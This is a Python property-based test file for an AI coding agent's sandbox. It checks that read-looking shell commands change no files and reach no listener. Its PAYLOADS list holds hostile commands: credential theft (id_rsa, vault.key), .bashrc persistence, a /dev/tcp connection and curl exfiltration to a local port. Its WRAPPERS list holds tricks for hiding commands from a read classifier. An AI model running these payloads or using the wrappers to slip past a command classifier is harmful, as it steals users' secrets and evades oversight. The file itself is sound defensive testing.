"""A property of the whole structure, not of the classifier: in `plan` and `ask` mode, with nobody approving
anything, a generated corpus of read-looking commands that try to write, persist, follow links or connect leaves
the workspace, the real home folder and the data folder byte-identical, and never reaches a listener.

Each command is a payload (a write, a planted startup file, a link to the person's files, a connection) wrapped
in a form that looks like a read — a substitution, arithmetic over a computed value, a program-naming option
(also abbreviated), a pager hook, find -exec, xargs, a git driver… Whatever the classifier decides — asks (and
nobody answers) or lets it run as a read — nothing may change: an unasked command runs with every lasting
folder read-only, a fresh home and no network.
"""

from __future__ import annotations

import os
import subprocess
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orkas.engine.sandbox.executor import confinement
from tests.e2e.attack_kit import Listener, Victim, script_tool_calls, tool_results
from tests.fakes.server import FakeServer

pytestmark = [
    pytest.mark.skipif(confinement() != "bubblewrap", reason="needs bubblewrap (CI installs it)"),
    pytest.mark.slow,  # 150 confined commands through orkas run: scheduled first
]

# What a command tries to do. {home}, {data}, {port} are filled in; no single quote inside (wrappers quote).
PAYLOADS = [
    "touch pwned",
    "echo x >> notes.md",
    "rm -f a",
    "mv b b2",
    "cp a copied",
    "mkdir -p made/deeper",
    "ln -s {home}/.bashrc linked",
    "chmod 000 notes.md",
    "sed -i s/one/two/ a",
    "truncate -s 0 notes.md",
    'python3 -c "open(\\"pwned\\", \\"w\\").write(\\"x\\")"',
    "echo planted >> {home}/.bashrc",
    "mkdir -p ~/.config/git && echo [core] > ~/.config/git/config && cp -r ~/.config {home}/.config-copy",
    "ln -sf {home}/.bashrc ~/.gitconfig; echo evil >> ~/.gitconfig",
    "cp {data}/vault.key stolen.key",
    "cat {home}/.ssh/id_rsa > leaked.txt",
    "git init -q . && git config core.fsmonitor true",
    "exec 3<>/dev/tcp/127.0.0.1/{port} && echo hi >&3",
    "curl -s -m 2 http://127.0.0.1:{port}/exfil",
    'python3 -c "import socket; socket.create_connection((\\"127.0.0.1\\", {port}), timeout=2)"',
]
# Forms that look like reading: each takes a payload as {p}.
WRAPPERS = [
    "{p}",
    "cat a; {p}",
    "echo $({p})",
    "cat <({p})",
    "x=$({p}; echo 1); echo $((x))",
    "v='a[$({p})]'; echo $((v))",
    "git grep --open='{p};' one",
    "git grep --open-files='{p};' one",
    "tar -cf /dev/null a --checkpoint=1 --checkpoint-act=exec='{p}'",
    "find . -maxdepth 0 -exec sh -c '{p}' \\;",
    "LESSOPEN='|{p}; cat %s' less a",
    "env -S'{p}'",
    "cat a | xargs -I% sh -c '{p}'",
    "echo x | split --filter='{p}'",
    "sort --compress-prog=sh -S 1 -T . a; {p}",
    "awk 'BEGIN {{ system(\"{p}\") }}'",
    "f() {{ {p}; }}; f",
    "hash -p /bin/sh cat; cat -c '{p}'",
    "PAGER='sh -c \"{p}\"' git log -1",
    "GIT_EXTERNAL_DIFF='{p}' git diff --no-index a b",
]

SKIPPED = {
    "sessions",
    "conversations",  # the run's own record (orkas run keeps the window's conversations)
    "checkpoints",  # the workspace as each turn began (in ask mode): Orkas's own copy, for a rewind
    "attachments",
    "logs",
    "outputs",
    "sandbox",
    "usage.jsonl",
    "cache",
    "crashes",
    "signals",
    "processes",
    "format.json",
}


def _tree(root: Path, skip: frozenset[str] = frozenset()) -> dict[str, tuple[str, bytes]]:
    """Every entry under `root`: its kind and its bytes (a link: where it points). Never follows a link."""
    found: dict[str, tuple[str, bytes]] = {}
    for folder, dirs, files in os.walk(root):
        here = Path(folder)
        if here == root:
            dirs[:] = [d for d in dirs if d not in skip]
            files = [f for f in files if f not in skip]
        for name in [*dirs, *files]:
            path = here / name
            key = str(path.relative_to(root))
            if path.is_symlink():
                found[key] = ("link", os.readlink(path).encode())
            elif path.is_dir():
                found[key] = ("dir", oct(path.stat().st_mode & 0o777).encode())
            else:
                found[key] = ("file", path.read_bytes() + oct(path.stat().st_mode & 0o777).encode())
    return found


def _snapshot(victim: Victim) -> tuple[dict[str, tuple[str, bytes]], ...]:
    return _tree(victim.workspace), _tree(victim.home, frozenset({"project"})), _tree(victim.data, frozenset(SKIPPED))


@settings(max_examples=3, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.sampled_from(WRAPPERS), st.sampled_from(PAYLOADS)), min_size=30, max_size=30, unique=True))
def test_read_looking_commands_change_nothing_in_plan_and_ask_mode(
    anthropic_server: FakeServer, commands: list[tuple[str, str]]
) -> None:
    listener = Listener()
    victim = Victim(Path(tempfile.mkdtemp(prefix="orkas-property-")))
    (victim.home / ".bashrc").write_text("# the person's bashrc\n")
    (victim.home / ".gitconfig").write_text("[user]\n\tname = Ana\n")
    (victim.data / "vault.key").write_text("the vault's key")
    subprocess.run(["git", "init", "-q", str(victim.workspace)], check=True)
    subprocess.run(["git", "-C", str(victim.workspace), "add", "-A"], check=True)
    values = {"home": str(victim.home), "data": str(victim.data), "port": str(listener.port)}
    lines = [wrapper.format(p=payload.format(**values)) for wrapper, payload in commands]
    lines.append("cat a; ls")  # a plain read among them: it runs, unasked, in both modes
    try:
        before = _snapshot(victim)
        for mode in ("plan", "ask"):
            anthropic_server.requests.clear()
            script_tool_calls(anthropic_server, [("bash", {"command": line}) for line in lines])
            result = victim.run(anthropic_server, "--mode", mode, timeout=300)
            assert result.returncode == 0, result.stderr
            shown = tool_results(anthropic_server)
            assert len(shown) == len(lines)
            assert "exit code 0" in shown[f"toolu_{len(lines) - 1}"], "a plain read must still run"
            after = _snapshot(victim)
            for label, was, now in zip(("workspace", "home", "data folder"), before, after, strict=True):
                changed = sorted(set(was.items()) ^ set(now.items()))
                assert not changed, f"{mode} mode changed the {label}: {changed[:5]}"
        assert listener.received == []
    finally:
        listener.close()


@settings(max_examples=2, deadline=None, derandomize=True)
@given(st.lists(st.tuples(st.sampled_from(WRAPPERS), st.sampled_from(PAYLOADS)), min_size=25, max_size=25, unique=True))
async def test_even_a_command_wrongly_judged_a_read_changes_nothing(commands: list[tuple[str, str]]) -> None:
    """The classifier taken out: every line runs exactly as a command judged a read runs (not writable), through
    the one executor with the product's sandbox. Nothing may change, nothing may be reached."""
    from orkas.engine.sandbox import PathPolicy
    from orkas.engine.sandbox.executor import Executor

    listener = Listener()
    victim = Victim(Path(tempfile.mkdtemp(prefix="orkas-unjudged-")))
    (victim.home / ".bashrc").write_text("# the person's bashrc\n")
    (victim.data / "vault.key").write_text("the vault's key")
    subprocess.run(["git", "init", "-q", str(victim.workspace)], check=True)
    values = {"home": str(victim.home), "data": str(victim.data), "port": str(listener.port)}
    policy = PathPolicy(victim.workspace, home=victim.home, protected=[victim.data])
    env = {"PATH": os.environ["PATH"], "HOME": str(victim.home)}
    executor = Executor(policy, spill_dir=victim.data / "outputs", base_env=env, home_files={".gitconfig": "[user]\n"})
    try:
        before = _snapshot(victim)
        for wrapper, payload in commands:
            result = await executor.run(wrapper.format(p=payload.format(**values)), timeout=30)
            assert not result.writable and not result.network
        after = _snapshot(victim)
        for label, was, now in zip(("workspace", "home", "data folder"), before, after, strict=True):
            changed = sorted(set(was.items()) ^ set(now.items()))
            assert not changed, f"a command run as a read changed the {label}: {changed[:5]}"
        assert listener.received == []
    finally:
        listener.close()
